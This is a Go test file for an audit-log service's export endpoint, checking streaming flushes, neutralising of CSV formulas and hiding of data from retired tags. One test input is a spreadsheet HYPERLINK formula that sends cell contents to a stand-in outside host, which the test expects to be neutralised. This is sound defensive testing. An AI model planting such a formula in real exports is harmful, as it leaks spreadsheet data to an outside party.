package web_test

import (
	"bufio"
	"encoding/json"
	"fmt"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/require"

	"github.com/auditlog/auditlog/internal/dbtest"
	"github.com/auditlog/auditlog/service"
	"github.com/auditlog/auditlog/web"
)

// flushCounter is a ResponseWriter that notes how much was written at
// each flush.
type flushCounter struct {
	http.ResponseWriter
	written int
	flushes []int
}

func (f *flushCounter) Write(p []byte) (int, error) {
	f.written += len(p)
	return f.ResponseWriter.Write(p)
}
func (f *flushCounter) Flush() { f.flushes = append(f.flushes, f.written) }

// The export streams: it flushes page by page as it reads, instead of
// building the whole answer first.
func TestExportStreams(t *testing.T) {
	t.Parallel()
	b := webSetup(t)
	const n = 5000
	batch := make([]service.EventParams, n)
	for i := range batch {
		batch[i] = service.EventParams{Tag: "project:release:add", Subject: "big", ActorID: "erin",
			Time: time.Now().Add(-time.Duration(i+1) * time.Second), IP: "198.51.100.9",
			Additional: json.RawMessage(fmt.Sprintf(`{"version": "0.%d"}`, i))}
	}
	_, err := b.log.RecordProjectMany(b.ctx, batch)
	require.NoError(t, err)
	h, err := web.New(web.Options{Log: b.log, Secret: secret})
	require.NoError(t, err)
	for _, format := range []string{"jsonl", "csv"} {
		rec := httptest.NewRecorder()
		fc := &flushCounter{ResponseWriter: rec}
		req := httptest.NewRequest("GET", "/admin/export?project=big&format="+format, nil)
		req.Header.Set("Authorization", "Bearer "+b.tokens["admin"])
		h.ServeHTTP(fc, req)
		require.Equal(t, http.StatusOK, rec.Code, rec.Body.String())
		lines := 0
		sc := bufio.NewScanner(strings.NewReader(rec.Body.String()))
		for sc.Scan() {
			lines++
		}
		want := n
		if format == "csv" {
			want++ // the header
		}
		require.Equal(t, want, lines)
		require.GreaterOrEqual(t, len(fc.flushes), n/1000, "one flush per page of 1,000")
		for i := 1; i < len(fc.flushes); i++ {
			require.Less(t, fc.flushes[i]-fc.flushes[i-1], rec.Body.Len()/3, "no single flush holds most of the export")
		}
	}
}

// CSV cells that a spreadsheet would run as a formula are neutralised,
// whichever column they are in; events of a tag no longer registered show
// no additional data to the public.
func TestExportCSVFormulasAndRetiredTags(t *testing.T) {
	t.Parallel()
	b := webSetup(t)
	_, err := b.log.RecordUser(b.ctx, service.EventParams{Tag: "account:login:failure", Subject: "alice",
		UserAgent: `=HYPERLINK("http://x.example/?"&A1)`, Location: &service.Location{City: "@SUM(1)"},
		Additional: json.RawMessage(`{"reason": "bad password"}`)})
	require.NoError(t, err)
	status, csv := b.get(t, "admin", "/admin/export?format=csv&user=alice")
	require.Equal(t, http.StatusOK, status)
	require.Contains(t, csv, `'=HYPERLINK`)
	require.Contains(t, csv, `'@SUM(1)`)
	require.NotContains(t, csv, `,=HYPERLINK`)
	require.NotContains(t, csv, `,"=HYPERLINK`)

	dbtest.InsertRaw(t, b.pool, dbtest.Raw{Table: "project_events", Tag: "project:retired:thing", Subject: "tinyweb",
		Description: "Something retired", Additional: `{"email": "old@example.com"}`})
	_, body := b.get(t, "anonymous", "/api/v1/projects/tinyweb/events")
	require.Contains(t, body, "Something retired")
	require.NotContains(t, body, "old@example.com")
}
